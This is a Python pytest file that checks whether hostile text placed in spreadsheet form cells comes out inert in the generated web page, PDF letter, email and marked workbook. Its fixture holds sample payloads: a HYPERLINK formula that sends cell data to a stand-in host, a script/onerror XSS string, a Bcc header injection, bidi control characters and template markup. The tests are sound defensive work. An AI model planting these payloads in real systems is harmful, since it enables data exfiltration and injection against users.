"""Hostile text in the cells of a form, from reading to every way out: it comes out inert."""

from __future__ import annotations

import re
from dataclasses import dataclass
from datetime import datetime
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser

import openpyxl
import pytest
from form_books import RECORD, Form, write_book
from marked_books import HEADING, opened, parts_of

from expectations.findings import Finding
from expectations.reports.answer_sheet import Mark
from expectations.reports.html import Finding as ShownFinding
from expectations.reports.html import Sender, SubmissionReport, render_sender_report
from expectations.reports.letter import Letter, LetterFinding, LetterSubmission, letter_pdf
from expectations.reports.mail import POLICY, Attachment, letter_mail
from expectations.reports.marked import marked_workbook
from expectations.validate import validate_submissions
from ingest.contract import all_contracts
from ingest.extract import read_submissions

AS_OF = datetime(2026, 7, 5, 2)
TEXTS = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "header": "12\r\nBcc: ai@x.example\r\n\r\nNội dung khác",
    "direction": "1.234\u202e765.\u2066\u200b",
    "long": "chữ số 9 " * 3_556,  # 32.004 characters
    "markup": "#strong[x] $y$ {{ 7 * 7 }} ]]>&#x41; _x0041_",
}
# where numbers are wanted
CELLS = {f"J{11 + number}": text for number, text in enumerate(TEXTS.values())}
UNIT = f"Sở {TEXTS['script']}{TEXTS['header']}\u202e"


@dataclass(frozen=True)
class WaysOut:
    """What the sender of one hostile workbook gets."""

    page: str
    letter: bytes
    mail: bytes
    workbook: bytes


@pytest.fixture(scope="module")
def ways_out(tmp_path_factory: pytest.TempPathFactory) -> WaysOut:
    path = tmp_path_factory.mktemp("hostile") / "STC" / "a.xlsx"
    path.parent.mkdir()
    write_book(path, [Form("LS-01", rows=[dict(RECORD) for _ in TEXTS])])
    book = openpyxl.load_workbook(path)
    for address, text in CELLS.items():
        book["LS-01"][address].value = text
        book["LS-01"][address].data_type = "s"  # typed as text, also what looks like a formula
    book.save(path)
    [read] = read_submissions(path).submissions
    contracts = {contract.id: contract for contract in all_contracts()}
    [validation] = validate_submissions(contracts, [(1, read)])
    found = [f for f in validation.findings if (f.cell_ref or "").split("!")[1] in CELLS]
    assert {(f.cell_ref or "").split("!")[1] for f in found} == set(CELLS)
    name = f"STC/{TEXTS['script']}\u202e.xlsx"
    workbook = marked_workbook(path.read_bytes(), [_mark(f) for f in found], HEADING).content
    letter = _letter(found, name)
    pdf = letter_pdf(letter, AS_OF, 5)
    attached = [Attachment("a.pdf", pdf), Attachment.workbook("a.xlsx", workbook)]
    message = letter_mail(letter, AS_OF, 5, attached)
    shown = tuple(
        ShownFinding(f.rule, f.severity, f.sheet, f.cell_ref, f.cells, f.value, f.expected,
                     f.message, f.fix, AS_OF)
        for f in found
    )  # fmt: skip
    report = SubmissionReport(name, UNIT, "ls01", UNIT, "held", found[0].message, shown)
    page = render_sender_report(Sender("STC", UNIT), [report], AS_OF)
    return WaysOut(page, pdf, message.as_bytes(policy=POLICY), workbook)


def _mark(f: Finding) -> Mark:
    return Mark(f"{f.rule}-{f.cell_ref}", f.severity, f.sheet, f.cell_ref, f.value, f.message,
                f.fix)  # fmt: skip


def _letter(found: list[Finding], name: str) -> Letter:
    return Letter(
        "STC", UNIT, "2026-06", TEXTS["header"],
        (LetterSubmission("s1", name, "ls01", "LS-01", UNIT, AS_OF, "held", found[0].message),),
        tuple(
            LetterFinding(f.rule, "s1", "ls01", f.rule, f.severity, f.sheet, f.cell_ref, f.cells,
                          f.value, f.message, f.fix, AS_OF)
            for f in found
        ),
    )  # fmt: skip


class Tags(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_inert_html(html: str) -> None:
    tags = Tags(html).found
    assert {"script", "img", "iframe", "form"} & {tag for tag, _ in tags} == set()
    for tag, attributes in tags:
        assert not any(name.startswith("on") for name in attributes), tag
        assert not re.match(r"(?i)https?:|javascript:|data:", attributes.get("href") or "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", html)


def test_page_shows_hostile_text_and_runs_none(ways_out: WaysOut) -> None:
    assert_inert_html(ways_out.page)
    assert "=HYPERLINK(" in ways_out.page and "{{ 7 * 7 }}" in ways_out.page
    assert "(lược bớt 31." in ways_out.page
    assert len(ways_out.page) < 60_000


def test_letter_holds_no_link_and_no_script(ways_out: WaysOut) -> None:
    assert not re.search(rb"/(URI|JavaScript|JS|Launch|OpenAction|EmbeddedFile)\b", ways_out.letter)
    assert len(re.findall(rb"/Type\s*/Page\b", ways_out.letter)) <= 4


def test_mail_has_no_header_and_no_link_of_a_stranger(ways_out: WaysOut) -> None:
    mail = message_from_bytes(ways_out.mail, policy=default)
    assert mail["Bcc"] is None and mail["To"] is None
    assert not mail.defects
    subject = str(mail["Subject"])
    assert len(subject) < 250
    assert not re.search("[\r\n\u202a-\u202e\u2066-\u2069]", subject)
    plain = mail.get_body(("plain",)).get_content()  # type: ignore[attr-defined]
    html = mail.get_body(("html",)).get_content()  # type: ignore[attr-defined]
    assert_inert_html(html)
    for text in (plain, html):
        assert "http://" not in text and "http[:]//x.example" in text
        assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b]", text)
        assert len(text) < 12_000
    assert not [line for line in plain.splitlines() if line.startswith(("Bcc", "Nội dung khác"))]


def test_workbook_gets_no_formula_and_no_link_to_outside(ways_out: WaysOut) -> None:
    sheet = opened(ways_out.workbook).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert any(str(cell.value).startswith("=HYPERLINK(") for cell in cells)
    assert all(len(str(cell.value)) < 1_300 for cell in cells)
    assert not [c for c in cells if re.search("[\u202a-\u202e\u2066-\u2069\u200b]", str(c.value))]
    assert {c.hyperlink.target for c in cells if c.hyperlink} == {None}
    for name, part in parts_of(ways_out.workbook).items():
        if "sheet_kho" in name:
            assert b"<f" not in part.replace(b"<formula1>2000</formula1>", b"")
        if name.endswith(".rels"):
            assert b"External" not in part, name
